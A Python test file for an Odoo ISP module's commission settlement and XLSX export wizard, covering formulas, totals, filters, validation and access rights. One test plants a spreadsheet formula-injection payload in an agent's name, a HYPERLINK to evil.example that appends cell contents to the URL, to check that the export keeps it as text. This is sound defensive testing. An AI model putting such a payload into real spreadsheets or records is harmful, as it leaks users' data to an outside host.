# Copyright 2026 ISP Suite for Odoo
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import base64
import datetime
import io
import unittest

import openpyxl

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests.common import at_install, post_install

from ..wizards.isp_commission_settlement_xlsx import sum_formula
from .common import IspCommon


class TestSumFormula(unittest.TestCase):

    def test_sum_formula_table(self):
        table = [
            ([], '=0'),
            (['G7'], '=SUM(G7)'),
            (['G7', 'G10'], '=SUM(G7,G10)'),
        ]
        for cells, expected in table:
            with self.subTest(cells=cells):
                self.assertEqual(sum_formula(cells), expected)

    def test_many_cells_are_nested_under_excel_argument_limit(self):
        cells = ['G%d' % row for row in range(1, 502)]
        formula = sum_formula(cells)
        self.assertEqual(formula.count('SUM('), 1 + 3)
        self.assertTrue(all(cell in formula for cell in cells))


@at_install(False)
@post_install(True)
class TestCommissionXlsx(IspCommon):

    @classmethod
    def setUpClass(cls):
        super(TestCommissionXlsx, cls).setUpClass()
        cls.env['ir.config_parameter'].sudo().set_param(
            'isp_crm.credit_require_fiscal_id', 'False')
        cls.commission = cls.env['sale.commission'].create({
            'name': '10 % on invoices (xlsx test)',
            'commission_type': 'fixed',
            'fix_qty': 10.0,
            'invoice_state': 'open',
        })
        cls.agent_north = cls._create_agent('Agent North (xlsx)')
        cls.agent_south = cls._create_agent('Agent South (xlsx)')
        cls.customer_north = cls.env['res.partner'].create({
            'name': 'Customer of North', 'customer': True,
            'agents': [(6, 0, cls.agent_north.ids)]})
        cls.customer_south = cls.env['res.partner'].create({
            'name': 'Customer of South', 'customer': True,
            'agents': [(6, 0, cls.agent_south.ids)]})
        cls.product = cls.env['product.product'].create({
            'name': 'Fibre 600 (xlsx test)',
            'type': 'service',
            'list_price': 100.0,
            'invoice_policy': 'order',
        })
        cls.contract_1, cls.invoice_1 = cls._activate(
            cls.customer_north, 1, '2026-01-10')
        cls.contract_2, cls.invoice_2 = cls._activate(
            cls.customer_north, 2, '2026-01-20')
        cls.contract_3, cls.invoice_3 = cls._activate(
            cls.customer_north, 1, '2026-02-05')
        cls.contract_4, cls.invoice_4 = cls._activate(
            cls.customer_south, 1, '2026-01-15')
        cls.env['sale.commission.make.settle'].create({
            'date_to': '2026-03-01',
            'agents': [(6, 0, (cls.agent_north | cls.agent_south).ids)],
        }).action_settle()

    @classmethod
    def _create_agent(cls, name):
        return cls.env['res.partner'].create({
            'name': name,
            'agent': True,
            'supplier': True,
            'commission': cls.commission.id,
            'settlement': 'monthly',
        })

    @classmethod
    def _activate(cls, customer, qty, date_invoice):
        """An ISP contract through its intake, confirmed and invoiced."""
        order = cls.env['sale.order'].create({
            'partner_id': customer.id,
            'isp_is_contract': True,
            'order_line': [(0, 0, {
                'product_id': cls.product.id,
                'product_uom_qty': qty,
                'price_unit': 100.0,
            })],
        })
        order.action_isp_validate()
        order._isp_credit_check(date_ref=date_invoice)
        order.action_isp_mark_ready()
        order.action_confirm()
        invoice = cls.env['account.invoice'].browse(
            order.action_invoice_create())
        invoice.date_invoice = date_invoice
        invoice.action_invoice_open()
        return order, invoice

    def _export(self, date_from, date_to, agents=None):
        wizard = self.env['isp.commission.settlement.xlsx'].create({
            'date_from': date_from,
            'date_to': date_to,
            'agent_ids': [(6, 0, agents.ids if agents else [])],
        })
        action = wizard.action_export()
        attachment_id = int(action['url'].split('/')[3].split('?')[0])
        attachment = self.env['ir.attachment'].browse(attachment_id)
        self.assertTrue(attachment.datas_fname.endswith('.xlsx'))
        content = base64.b64decode(attachment.datas)
        formulas = openpyxl.load_workbook(io.BytesIO(content)).active
        values = openpyxl.load_workbook(
            io.BytesIO(content), data_only=True).active
        return formulas, values

    def test_activated_contract_line_carries_the_agent_commission(self):
        line_agent = self.invoice_2.invoice_line_ids.agents
        self.assertEqual(line_agent.agent, self.agent_north)
        self.assertAlmostEqual(line_agent.amount, 20.0)
        self.assertAlmostEqual(self.contract_2.commission_total, 20.0)

    def test_contract_cannot_be_activated_before_its_intake_is_ready(self):
        order = self.env['sale.order'].create({
            'partner_id': self.customer_north.id,
            'isp_is_contract': True,
            'order_line': [(0, 0, {'product_id': self.product.id})],
        })
        with self.assertRaises(UserError):
            order.action_confirm()
        self.assertFalse(order.invoice_ids)

    def test_settlements_group_the_invoices_per_agent_and_month(self):
        settlements = self.env['sale.commission.settlement'].search([
            ('agent', 'in', (self.agent_north | self.agent_south).ids)])
        totals = sorted((s.agent.name, s.date_from, s.total)
                        for s in settlements)
        self.assertEqual(totals, [
            ('Agent North (xlsx)', '2026-01-01', 30.0),
            ('Agent North (xlsx)', '2026-02-01', 10.0),
            ('Agent South (xlsx)', '2026-01-01', 10.0),
        ])

    def test_xlsx_has_one_row_per_settlement_line_and_totals(self):
        formulas, values = self._export('2026-01-01', '2026-02-28')
        self.assertEqual(
            [cell.value for cell in values[3]],
            ['Agent', 'Period from', 'Period to', 'Contract', 'Invoice',
             'Date', 'Amount'])
        rows = [[cell.value for cell in row]
                for row in values.iter_rows(min_row=4, max_row=12)]
        dt = datetime.datetime
        self.assertEqual(rows[0], [
            'Agent North (xlsx)', dt(2026, 1, 1), dt(2026, 1, 31),
            self.contract_1.name, self.invoice_1.number, dt(2026, 1, 10),
            10.0])
        self.assertEqual(rows[1][3:], [
            self.contract_2.name, self.invoice_2.number, dt(2026, 1, 20),
            20.0])
        self.assertEqual(rows[2][1:], [
            dt(2026, 2, 1), dt(2026, 2, 28), self.contract_3.name,
            self.invoice_3.number, dt(2026, 2, 5), 10.0])
        self.assertEqual(rows[3][0], 'Total Agent North (xlsx)')
        self.assertEqual(rows[3][6], 40.0)
        self.assertEqual(rows[4], [None] * 7)
        self.assertEqual(rows[5][0], 'Agent South (xlsx)')
        self.assertEqual(rows[5][3:], [
            self.contract_4.name, self.invoice_4.number, dt(2026, 1, 15),
            10.0])
        self.assertEqual(rows[6][0], 'Total Agent South (xlsx)')
        self.assertEqual(rows[6][6], 10.0)
        self.assertEqual(rows[8][0], 'Grand total')
        self.assertEqual(rows[8][6], 50.0)
        # totals are formulas, dates are dates, amounts are numbers
        self.assertEqual(formulas['G7'].value, '=SUM(G4:G6)')
        self.assertEqual(formulas['G10'].value, '=SUM(G9:G9)')
        self.assertEqual(formulas['G12'].value, '=SUM(G7,G10)')
        self.assertEqual(formulas['F4'].number_format, 'yyyy-mm-dd')
        self.assertEqual(formulas['G4'].data_type, 'n')

    def test_xlsx_filters_period_and_agents(self):
        _formulas, values = self._export(
            '2026-01-01', '2026-01-31', agents=self.agent_north)
        amounts = [row[6].value for row in values.iter_rows(min_row=4)]
        self.assertEqual(amounts, [10.0, 20.0, 30.0, None, 30.0])
        self.assertEqual(values['A6'].value, 'Total Agent North (xlsx)')
        self.assertEqual(values['A8'].value, 'Grand total')

    def test_xlsx_of_a_period_without_settlements_totals_zero(self):
        formulas, values = self._export('2025-01-01', '2025-12-31')
        self.assertEqual(values['A4'].value, 'Grand total')
        self.assertEqual(formulas['G4'].value, '=0')
        self.assertEqual(values['G4'].value, 0)

    def test_period_ending_before_it_starts_is_refused(self):
        with self.assertRaises(ValidationError):
            self.env['isp.commission.settlement.xlsx'].create({
                'date_from': '2026-02-01', 'date_to': '2026-01-01'})

    def test_text_starting_with_equals_stays_text(self):
        """A name an agent (or anybody who edits partners) chose is
        written as text: opened in a spreadsheet it is not a formula."""
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        self.agent_south.name = evil
        formulas, values = self._export(
            '2026-01-01', '2026-01-31', agents=self.agent_south)
        self.assertEqual(formulas['A4'].value, evil)
        self.assertEqual(formulas['A4'].data_type, 's')
        self.assertEqual(formulas['A5'].value, 'Total %s' % evil)
        self.assertEqual(formulas['A5'].data_type, 's')
        self.assertEqual(values['A4'].value, evil)

    def test_export_is_refused_outside_the_back_office(self):
        employee = self._create_user(
            'isp_xlsx_employee', ['base.group_user'])
        agent = self._create_user(
            'isp_xlsx_agent', ['isp_crm.group_isp_agent'])
        Attachment = self.env['ir.attachment'].sudo()
        before = Attachment.search_count(
            [('res_model', '=', 'isp.commission.settlement.xlsx')])
        for user in (employee, agent):
            wizard = self.env['isp.commission.settlement.xlsx'].sudo(
                user).create({'date_from': '2026-01-01',
                              'date_to': '2026-02-28'})
            with self.assertRaises(AccessError):
                wizard.action_export()
        self.assertEqual(Attachment.search_count(
            [('res_model', '=', 'isp.commission.settlement.xlsx')]), before)
